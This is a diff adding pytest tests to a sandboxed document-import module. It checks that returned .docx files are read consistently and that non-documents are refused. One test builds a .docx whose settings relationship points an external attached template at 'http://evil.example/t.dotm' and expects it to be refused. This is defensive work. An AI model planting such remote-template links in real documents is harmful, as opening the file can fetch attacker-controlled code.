@@ -9,18 +9,22 @@ from pathlib import Path
 
 import pytest
 
+from made_documents import make_document
 from made_files import CURRICULUM_DOCX_BODY, HTML, make_docx
 from sauatty import sandbox
+from sauatty.core.documents.docx import render_docx
 from sauatty.core.errors import (
     FileTooLarge,
     FileTypeUnknown,
     ImportRefused,
+    LinkedPartsForbidden,
     ReaderFailed,
     ReaderOutOfMemory,
     ReaderTimedOut,
 )
+from sauatty.core.exchange.docx_review import read_returned
 from sauatty.core.exchange.reading import read_document
-from sauatty.sandbox import Limits, read_in_sandbox
+from sauatty.sandbox import Limits, read_in_sandbox, read_returned_in_sandbox
 
 # What stands in for the reader: a module of the same name, found before ours.
 HOSTILE = {
@@ -189,6 +193,32 @@ def test_two_files_do_not_know_of_each_other(page: Path, tmp_path: Path) -> None
 
 def test_limits_can_be_told_to_a_child() -> None:
     assert Limits(**json.loads(json.dumps(dataclasses.asdict(Limits(file=7))))).file == 7
+
+
+def test_a_document_that_came_back_is_read_as_outside_the_sandbox(tmp_path: Path) -> None:
+    path = tmp_path / "back.docx"
+    path.write_bytes(render_docx(make_document()))
+
+    assert read_returned_in_sandbox(path) == read_returned(path)
+
+
+def test_a_document_that_came_back_with_a_linked_part_is_refused(tmp_path: Path) -> None:
+    relation = (
+        '<Relationships><Relationship Id="r" Type="x/attachedTemplate" TargetMode="External" '
+        'Target="http://evil.example/t.dotm"/></Relationships>'
+    )
+    path = tmp_path / "back.docx"
+    path.write_bytes(make_docx("<w:p/>", extra={"word/_rels/settings.xml.rels": relation}))
+
+    with pytest.raises(LinkedPartsForbidden) as caught:
+        read_returned_in_sandbox(path)
+
+    assert caught.value.params["name"] == "back.docx"
+
+
+def test_a_page_is_no_document_that_came_back(page: Path) -> None:
+    with pytest.raises(FileTypeUnknown):
+        read_returned_in_sandbox(page)
 
 
 @pytest.mark.slow
